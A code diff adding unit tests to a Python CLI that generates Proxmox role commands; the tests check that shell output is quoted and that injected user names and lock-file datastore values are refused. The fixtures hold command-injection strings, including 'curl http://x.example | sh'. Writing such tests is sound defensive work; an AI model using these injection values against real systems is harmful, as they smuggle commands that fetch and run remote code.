@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import json
+import shlex
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -10,7 +12,9 @@ from click.testing import CliRunner
 from ruamel.yaml import YAML
 
 from stardock.cli.main import runner
-from tests.plans import document
+from stardock.estate.role import commands
+from stardock.lock import save_lock
+from tests.plans import document, plan_of, quickstart_plan
 
 pytestmark = pytest.mark.unit
 
@@ -59,3 +63,35 @@ def test_as_json_it_lists_grants_by_path(file: Path) -> None:
     assert (document["user"], document["token"]) == ("stardock-quickstart@pve", "stardock")
     estate = next(grant for grant in document["grants"] if grant["kind"] == "estate")
     assert (estate["paths"], estate["propagate"]) == (["/"], False)
+
+
+@pytest.mark.proves("hostile 8")
+def test_what_leaves_for_a_shell_is_quoted_whatever_the_plan_holds() -> None:
+    plan = quickstart_plan()
+    hostile = replace(plan, cluster="x;id", machines=tuple(replace(one, disk_datastore="a; curl x | sh #") for one in plan.machines))
+    for line in commands(hostile, "u$(id)@pve"):
+        words = shlex.split(line)
+        assert not {"id", "curl", "sh", "#"} & {word.strip(";|") for word in words}, line
+    assert any("'/storage/a; curl x | sh #'" in line for line in commands(hostile, "u@pve"))
+
+
+@pytest.mark.proves("hostile 8")
+@pytest.mark.parametrize("user", ["x; id", "x", "a@b\nid", "-x@pve", "$(id)@pve"])
+def test_a_user_that_is_none_is_refused(file: Path, user: str) -> None:
+    done = CliRunner().invoke(runner, ["proxmox-role", "-f", str(file), f"--user={user}"])
+    assert done.exit_code == 2
+    assert "is not a user of PVE" in done.output
+
+
+@pytest.mark.proves("hostile 8")
+def test_a_datastore_of_the_lock_that_is_a_command_is_refused_before_any_line_is_printed(file: Path) -> None:
+    lock = file.with_suffix(".lock")
+    save_lock(lock, plan_of(document())[1])
+    lock.write_text(
+        lock.read_text().replace('"disk_datastore": "local-lvm"', '"disk_datastore": "local-lvm; curl http://x.example | sh #"', 1)
+    )
+    done = CliRunner().invoke(runner, ["proxmox-role", "-f", str(file)])
+    assert done.exit_code == 3
+    assert done.stdout == ""
+    assert f"{lock}:" in done.stderr
+    assert "record.disk_datastore: `local-lvm; curl http://x.example | sh #` is not a PVE storage" in done.stderr
